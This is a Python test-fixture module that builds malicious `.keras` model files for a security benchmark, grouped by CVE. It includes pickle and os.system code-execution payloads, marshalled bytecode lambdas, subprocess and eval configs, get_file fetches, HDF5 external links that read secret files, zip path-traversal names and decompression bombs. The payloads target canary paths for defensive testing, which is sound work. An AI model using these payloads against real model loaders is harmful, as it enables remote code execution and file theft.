"""`.keras` files that mean harm: what `benchmarks.red_team` loads, and the tests a part of.

Most are a sound file with one object of its configuration replaced: every payload of `payloads` in every place of
`PLACES`. The others change the archive or the weights. Names say of which CVE's kind an attempt is.
"""

import base64
import io
import json
import marshal
import pickle
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

from tests.security.harness import Canary

Change = Callable[[Any], Any]
Make = Callable[[Path], Path]
"""(an empty folder) -> the path of a model that was written to it."""


def sound_model(path: Path) -> Path:
    """Write a sound `.keras` file: images [N, 8, 8, 1] -> Flatten -> Dense of 3 logits. Needs TensorFlow."""
    import keras

    image = keras.Input((8, 8, 1), name="image")
    flat = keras.layers.Flatten(name="flatten")(image)
    model = keras.Model(image, keras.layers.Dense(3, name="dense")(flat))
    model.compile("adam", "mse", metrics=["accuracy"])
    model.save(path)
    return path


def rewritten(
    sound: Path, path: Path, config: Change | None = None, weights: Change | None = None, compressed: bool = False
) -> Path:
    """A copy of a `.keras` file with its configuration, or its weights as an `h5py.File`, changed in place."""
    method = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    with zipfile.ZipFile(sound) as source, zipfile.ZipFile(path, "w", method) as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "config.json" and config:
                mapping = json.loads(content)
                content = json.dumps(config(mapping) or mapping).encode()
            if name == "model.weights.h5" and weights:
                stream = io.BytesIO(content)
                with h5py.File(stream, "r+") as file:
                    weights(file)
                content = stream.getvalue()
            target.writestr(name, content)
    return path


# --- objects of a configuration that do more than compute ---


class _Command:
    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)


def _code(planted: Path) -> str:
    """Python bytecode that writes a file, as Keras stores a lambda."""
    source = f"lambda x: (open({str(planted)!r}, 'w').write('x'), x)[1]"
    return base64.b64encode(marshal.dumps(eval(source).__code__)).decode()


# A table with a row per payload.
def payloads(canary: Canary) -> dict[str, dict]:
    """Objects by name, each of which runs, reads, writes or fetches something if Keras builds it."""
    planted, folder, secret, url = canary.planted, str(canary.folder), str(canary.secret), f"http://{canary.address}/"
    touch = f"touch {planted}"
    pickled = base64.b64encode(pickle.dumps(_Command(touch))).decode()
    code = {"class_name": "__lambda__", "config": {"value": [_code(planted), None, None]}}

    def function(module, name):
        return {"module": module, "class_name": "function", "config": name, "registered_name": name}

    def built(module, kind, registered=None, /, **config):
        return {"module": module, "class_name": kind, "config": config, "registered_name": registered}

    return {
        "CVE-2024-3660 Lambda with bytecode": built("keras.layers", "Lambda", function=code),
        "CVE-2024-3660 bytecode": code,
        "CVE-2025-1550 os.system as a class": built("os", "system", command=touch),
        "CVE-2025-1550 os.system as a function": function("os", "system"),
        "CVE-2025-1550 subprocess.Popen": built("subprocess", "Popen", args=touch, shell=True),
        "CVE-2025-1550 eval": function("builtins", "eval"),
        "CVE-2025-1550 a class of tests": built("keras.src.testing.test_case", "TestCase"),
        "CVE-2025-8747 get_file": function("keras.utils", "get_file"),
        "CVE-2025-8747 get_file as a class": built("keras.utils", "get_file", origin=url, fname="x"),
        "CVE-2025-8747 get_file by its source": function("keras.src.utils.file_utils", "get_file"),
        "CVE-2025-8747 Lambda of get_file": built(
            "keras.layers", "Lambda", function=function("keras.utils", "get_file"), arguments={"fname": str(planted)}
        ),
        "CVE-2025-9906 enable_unsafe_deserialization": function("keras.config", "enable_unsafe_deserialization"),
        "CVE-2025-9906 set_global_attribute": function("keras.src.backend.common.global_state", "set_global_attribute"),
        "CVE-2025-9906 load_model": function("keras.models", "load_model"),
        "CVE-2025-12058 StringLookup": built("keras.layers", "StringLookup", vocabulary=secret),
        "CVE-2025-12058 IntegerLookup": built("keras.layers", "IntegerLookup", vocabulary=secret),
        "CVE-2025-12058 TextVectorization": built("keras.layers", "TextVectorization", vocabulary=secret),
        "CVE-2025-12058 a vocabulary on a host": built("keras.layers", "StringLookup", vocabulary=url),
        "CVE-2025-49655 TorchModuleWrapper": built("keras.layers", "TorchModuleWrapper", module=pickled, name="torch"),
        "CVE-2026-1462 TFSMLayer": built("keras.layers", "TFSMLayer", filepath=folder, call_endpoint="serve"),
        "FlaxLayer": built("keras.layers", "FlaxLayer", module=code),
        "JaxLayer": built("keras.layers", "JaxLayer", call_fn=code, params=pickled),
        "keras.applications with a path": built(
            "keras.applications.vgg16", "VGG16", weights=str(canary.folder / "secret.h5")
        ),
        "keras.applications from the network": built("keras.applications", "MobileNetV2", weights="imagenet"),
        "keras.applications as a function": function("keras.applications.vgg16", "VGG16"),
        "a callback that writes": built("keras.callbacks", "CSVLogger", filename=str(planted)),
        "a store that writes": built("keras.src.saving.saving_lib", "DiskIOStore", root_path=str(planted), mode="w"),
        "an export": built("keras.export", "ExportArchive"),
        "a dataset from a folder": built("keras.utils", "image_dataset_from_directory", directory=folder),
        "a tokenizer": built(
            "keras_hub.tokenizers", "BytePairTokenizer", "keras_hub>BytePairTokenizer", vocabulary=secret, merges=secret
        ),
        "a module of keras_nlp": built("keras_nlp.src.utils.tensor_utils", "Dense"),
        "a module of keras_hub that is imported": built("keras_hub.src.utils.preset_utils", "PresetLoader"),
        "a type of tensors": {
            **built("tensorflow.python.framework.tensor", "__typespec__"),
            "spec_name": "TensorSpec",
            "config": [[None], "float32"],
        },
        "a registered name": built("keras.layers", "Dense", "keras_rcl>../../os.system", units=3),
        "our package's name": built("keras_rcl.runtime.launcher", "run", "keras_rcl>run", count=2),
        "our package's module": function("keras_rcl.runtime.launcher", "run"),
        "a class without a module": {"class_name": "VGG16", "config": {"weights": secret}},
        "a module that is not a text": {"module": ["os"], "class_name": "system", "config": {}},
        "a name that is not a text": {"module": "os", "class_name": {"system": 1}, "config": {}},
        "an operation that calls": built("keras.src.ops.core", "Map", f=function("os", "system")),
        "a derivative that calls": built("keras.src.ops.linalg", "JVP"),
        "numpy.load": function("numpy", "load"),
        "tf.io.read_file": function("tensorflow.io", "read_file"),
    }


def _layer(config: dict, name: str) -> dict:
    return next(layer for layer in config["config"]["layers"] if layer["config"].get("name") == name)


def _in_dense(key: str) -> Callable[[dict, dict], None]:
    return lambda config, payload: _layer(config, "dense")["config"].__setitem__(key, payload)


def _instead_of_flatten(config: dict, payload: dict) -> None:
    layer = _layer(config, "flatten")
    layers = config["config"]["layers"]
    layers[layers.index(layer)] = {**payload, "name": "flatten", "inbound_nodes": layer["inbound_nodes"]}


def _wrapped(module: str, kind: str, key: str, in_list: bool = False, **others) -> Callable[[dict, dict], None]:
    def place(config, payload):
        wrapper = {"module": module, "class_name": kind, "registered_name": None}
        _instead_of_flatten(config, {**wrapper, "config": {**others, key: [payload] if in_list else payload}})

    return place


def _as_argument(config: dict, payload: dict) -> None:
    _layer(config, "dense")["inbound_nodes"][0]["args"].append(payload)


def _as_keyword(config: dict, payload: dict) -> None:
    _layer(config, "dense")["inbound_nodes"][0]["kwargs"]["training"] = payload


def _alone_in_a_call(config: dict, payload: dict) -> None:
    _layer(config, "dense")["inbound_nodes"].append({"args": [[1.0, 2.0]], "kwargs": {"mask": payload}})


def _switch(config: dict, payload: dict) -> None:
    """An operation of Keras that calls a function of the file with operands of the file."""
    flatten = _layer(config, "flatten")
    tensor = flatten["inbound_nodes"][0]["args"][0]
    switch = {"module": "keras.src.ops.core", "class_name": "Switch", "config": {"name": "switch"}}
    node = {"args": [tensor, [payload], None], "kwargs": {}}
    config["config"]["layers"].append(
        {**switch, "registered_name": "Switch", "name": "switch", "inbound_nodes": [node]}
    )


def _compiled(key: str) -> Callable[[dict, dict], None]:
    return lambda config, payload: config["compile_config"].__setitem__(key, payload)


PLACES: dict[str, Callable[[dict, dict], None]] = {
    "a layer": _instead_of_flatten,
    "activation": _in_dense("activation"),
    "kernel_initializer": _in_dense("kernel_initializer"),
    "bias_regularizer": _in_dense("bias_regularizer"),
    "activity_regularizer": _in_dense("activity_regularizer"),
    "kernel_constraint": _in_dense("kernel_constraint"),
    "dtype": _in_dense("dtype"),
    "quantization_config": _in_dense("quantization_config"),
    "a layer in Sequential": _wrapped("keras", "Sequential", "layers", in_list=True, name="inner"),
    "a layer in TimeDistributed": _wrapped("keras.layers", "TimeDistributed", "layer"),
    "a layer in Bidirectional": _wrapped("keras.layers", "Bidirectional", "layer"),
    "a layer in SpectralNormalization": _wrapped("keras.layers", "SpectralNormalization", "layer"),
    "a layer in Pipeline": _wrapped("keras.layers", "Pipeline", "layers", in_list=True),
    "a cell of RNN": _wrapped("keras.layers", "RNN", "cell"),
    "a cell of StackedRNNCells": _wrapped("keras.layers", "StackedRNNCells", "cells", in_list=True),
    "the seed of Dropout": _wrapped("keras.layers", "Dropout", "seed", rate=0.5),
    "standardize of TextVectorization": _wrapped("keras.layers", "TextVectorization", "standardize"),
    "a policy of DTypePolicyMap": _wrapped("keras.dtype_policies", "DTypePolicyMap", "policy_map"),
    "an argument of a call": _as_argument,
    "a keyword of a call": _as_keyword,
    "a call without tensors": _alone_in_a_call,
    "a branch of Switch": _switch,
    "build_config": lambda config, payload: _layer(config, "dense")["build_config"].__setitem__("input_shape", payload),
    "input_layers": lambda config, payload: config["config"].__setitem__("input_layers", [payload]),
    "an unknown key": lambda config, payload: config["config"].__setitem__("planted", payload),
    "the loss": _compiled("loss"),
    "the optimizer": _compiled("optimizer"),
    "the metrics": lambda config, payload: config["compile_config"].__setitem__("metrics", [payload]),
}
"""Where a payload is put into the configuration of `sound_model`."""


def planted(sound: Path, payload: dict, place: str) -> Make:
    """A sound file with an object in one place of its configuration."""
    return lambda folder: rewritten(sound, folder / "m.keras", lambda config: PLACES[place](config, payload))


# --- weights that are not plain arrays ---


def _replace(file: h5py.File, make: Callable[[h5py.Group], None]) -> None:
    group = file["layers/dense/vars"]
    del group["0"]
    make(group)


def _virtual(group: h5py.Group, source: Path) -> None:
    layout = h5py.VirtualLayout((64, 3), "f4")
    layout[:] = h5py.VirtualSource(str(source), "layers/dense/vars/0", (64, 3))
    group.create_virtual_dataset("0", layout)


def _filtered(group: h5py.Group) -> None:
    properties = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    properties.set_chunk((64, 3))
    properties.set_filter(32015, h5py.h5z.FLAG_OPTIONAL, ())
    space = h5py.h5s.create_simple((64, 3))
    h5py.h5d.create(group.id, b"0", h5py.h5t.IEEE_F32LE, space, properties)


def _weights(canary: Canary) -> dict[str, Change]:
    """Changes of the weights by name."""
    secret = canary.folder / "secret.h5"
    there = "/layers/dense/vars/0"

    def replaced(make):
        return lambda file: _replace(file, make)

    def external_storage(group):
        group.create_dataset("0", (64, 3), "f4", external=[(str(canary.secret), 0, h5py.h5f.UNLIMITED)])

    def group_elsewhere(file):
        del file["layers/dense"]
        file["layers/dense"] = h5py.ExternalLink(str(secret), "/layers/dense")

    def cycle(file):
        file["layers/dense/again"] = file["layers"]

    def chunked(shape, **options):
        return replaced(lambda group: group.create_dataset("0", shape, "f4", chunks=True, **options))

    return {
        "HDF5 external link of a data set": replaced(
            lambda group: group.__setitem__("0", h5py.ExternalLink(str(secret), there))
        ),
        "HDF5 external link of a group": group_elsewhere,
        "HDF5 soft link": replaced(lambda group: group.__setitem__("0", h5py.SoftLink("/layers/dense/vars/1"))),
        "HDF5 external storage": replaced(external_storage),
        "HDF5 virtual data set": replaced(lambda group: _virtual(group, secret)),
        "CVE-2026-0897 HDF5 shape bomb": chunked((2**20, 2**20)),
        "HDF5 shape bomb below 4 GiB": chunked((2**14, 2**16 - 1)),
        "HDF5 compressed zeros": replaced(
            lambda group: group.create_dataset("0", data=np.zeros((2**12, 2**14), "f4"), compression="gzip")
        ),
        "HDF5 unknown filter": replaced(_filtered),
        "HDF5 texts": replaced(lambda group: group.create_dataset("0", data=["a", "b"])),
        "HDF5 references": replaced(
            lambda group: group.create_dataset("0", data=[group.ref], dtype=h5py.special_dtype(ref=h5py.Reference))
        ),
        "HDF5 mapping of fields": replaced(
            lambda group: group.create_dataset("0", data=np.zeros(3, [("a", "f4"), ("b", "i8")]))
        ),
        "HDF5 cycle of hard links": cycle,
        "HDF5 named type": replaced(lambda group: group.__setitem__("0", np.dtype("f4"))),
        "HDF5 array without elements": replaced(lambda group: group.__setitem__("0", h5py.Empty("f4"))),
        "HDF5 attribute of pickles": lambda file: file.attrs.__setitem__("x", np.void(pickle.dumps(_Command("true")))),
    }


# --- archives ---


def _appended(sound: Path, path: Path, members: dict[str, bytes], compressed: bool = True) -> Path:
    rewritten(sound, path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as archive:
        for name, content in members.items():
            with warnings.catch_warnings(action="ignore"):  # of a name that is there already
                archive.writestr(name, content)
    return path


def _with_link(sound: Path, path: Path, canary: Path) -> Path:
    rewritten(sound, path)
    with zipfile.ZipFile(path, "a") as archive:
        link = zipfile.ZipInfo("assets/link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, str(canary))
    return path


def _without(sound: Path, path: Path, left_out: str, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(sound) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            if name != left_out:
                target.writestr(name, source.read(name))
        for name, content in members.items():
            target.writestr(name, content)
    return path


def _lying(sound: Path, path: Path) -> Path:
    """The directory of the archive gives the weights another size than they have."""
    rewritten(sound, path, compressed=True)
    content = bytearray(path.read_bytes())
    at = content.rindex(b"PK\1\2", 0, content.rindex(b"model.weights.h5"))
    struct.pack_into("<I", content, at + 24, 10 * 2**20)
    path.write_bytes(content)
    return path


def _encrypted(sound: Path, path: Path) -> Path:
    rewritten(sound, path)
    content = bytearray(path.read_bytes())
    at = content.rindex(b"PK\1\2", 0, content.rindex(b"config.json"))
    content[at + 8] |= 1
    path.write_bytes(content)
    return path


def _archives(sound: Path, canary: Canary) -> dict[str, Make]:
    """Files by name that are not the archive that Keras writes."""

    def appended(**options):
        return lambda members: lambda folder: _appended(sound, folder / "m.keras", members, **options)

    def changed(change, compressed=False):
        return lambda folder: rewritten(sound, folder / "m.keras", change, compressed=compressed)

    def text(content: bytes):
        return lambda folder: _without(sound, folder / "m.keras", "config.json", {"config.json": content})

    def weights(name: str, content: bytes):
        return lambda folder: _without(sound, folder / "m.keras", "model.weights.h5", {name: content})

    def file(name: str, content: bytes):
        def make(folder):
            (folder / name).write_bytes(content)
            return folder / name

        return make

    def units(config):
        _layer(config, "dense")["config"]["units"] = 10**9

    def nested(config):
        inner: Any = []
        for _ in range(900):
            inner = [inner]
        _layer(config, "dense")["config"]["bias_initializer"] = inner

    stored, packed = appended(compressed=False), appended()
    zeros = bytes(63 * 2**20)
    command = pickle.dumps(_Command("true"))
    archive = io.BytesIO()
    np.savez(archive, x=np.array([_Command("true")], object))
    return {
        "zip: many members that expand": packed({f"assets/{i}": zeros for i in range(16)}),
        "zip: a member that expands": packed({"assets/x": bytes(200 * 2**20)}),
        "zip: 5,000 members": stored({f"assets/{i}": b"" for i in range(5000)}),
        "zip: the configuration twice": stored({"config.json": b"{}"}),
        "zip: a member twice": stored({"assets/x": b"1", "assets//x": b"2", "assets/./x": b"3"}),
        "zip: an absolute name": stored({"/tmp/planted": b"x"}),
        "zip: a name with ..": stored({"assets/../../../planted": b"x"}),
        "zip: a name with backslashes": stored({"assets\\..\\..\\planted": b"x"}),
        "zip: a drive": stored({"C:planted": b"x"}),
        "zip: a link": lambda folder: _with_link(sound, folder / "m.keras", canary.folder),
        "zip: a size that is not true": lambda folder: _lying(sound, folder / "m.keras"),
        "zip: an encrypted member": lambda folder: _encrypted(sound, folder / "m.keras"),
        "zip: no configuration": lambda folder: _without(sound, folder / "m.keras", "config.json", {}),
        "zip: no weights": lambda folder: _without(sound, folder / "m.keras", "model.weights.h5", {}),
        "pickle: weights as .npz of objects": weights("model.weights.npz", archive.getvalue()),
        "pickle: weights": weights("model.weights.h5", command),
        "pickle: a file named .keras": file("m.keras", command),
        "weights in shards": weights("model.weights.json", b'{"weight_map": {"/layers/dense/vars": "../x.h5"}}'),
        "JSON: nested too deeply": text(b'{"class_name": "Functional", "config": ' + b"[" * 100_000),
        "JSON: nested lists": changed(nested),
        "JSON: a number of a million digits": text(b'{"class_name": ' + b"9" * 10**6 + b"}"),
        "JSON: not a mapping": text(b"[]"),
        "JSON: a text": text(b'"keras"'),
        "JSON: bytes that are not text": text(b"\xff\xfe\xfa"),
        "JSON: a configuration of 100 MB": text(b"[" + b"0," * 50_000_000 + b"0]"),
        "memory: a layer of 10^9 units": changed(units),
        "CVE-2025-9905 a file .h5": file("m.h5", b"\x89HDF\r\n\x1a\n"),
        "CVE-2025-9905 an HDF5 file named .keras": file("m.keras", b"\x89HDF\r\n\x1a\n" + bytes(1000)),
    }


def attempts(sound: Path, canary: Canary) -> dict[str, Make]:
    """All attempts by name, as changes of a sound file that `sound_model` has written."""
    with h5py.File(canary.folder / "secret.h5", "w") as file:
        file["layers/dense/vars/0"] = np.ones((64, 3), "f4")
        file["layers/dense/vars/1"] = np.ones(3, "f4")

    def changed(change):
        return lambda folder: rewritten(sound, folder / "m.keras", weights=change)

    return {
        **{
            f"{name} as {place}": planted(sound, payload, place)
            for name, payload in payloads(canary).items()
            for place in PLACES
        },
        **{name: changed(change) for name, change in _weights(canary).items()},
        **_archives(sound, canary),
    }
